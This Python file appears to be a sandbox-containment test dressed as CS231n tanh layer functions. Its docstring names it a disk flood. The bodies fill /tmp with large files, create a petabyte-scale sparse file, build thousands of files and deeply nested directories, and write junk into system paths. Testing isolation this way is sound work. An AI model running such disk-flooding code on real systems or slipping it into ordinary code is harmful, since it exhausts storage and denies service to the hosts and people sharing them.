"""Class: disk flood: bytes, sparse files, names, depth.
Expectation: the scratch folder is small, and no disk of the host's."""

import os


def tanh_forward(x):
    for number in range(10**6):
        try:
            with open(f"/tmp/{number}", "wb") as file:
                file.write(b"x" * 2**20)
        except OSError:
            break
    try:
        with open("/tmp/sparse", "wb") as file:
            file.truncate(2**50)
    except OSError:
        pass
    return x, x


def tanh_backward(dout, cache):
    folder = "/tmp"
    for number in range(20_000):
        try:
            os.close(os.open(f"/tmp/empty{number}", os.O_CREAT))
            folder += "/d"
            os.mkdir(folder)
        except OSError:
            pass
    for path in ("/dev/shm/x", "/dev/x", "/x", "/usr/x", "/var/tmp/x", "/run/x"):
        try:
            open(path, "wb").write(b"cs231n-attack" * 2**20)
        except OSError:
            pass
    return dout
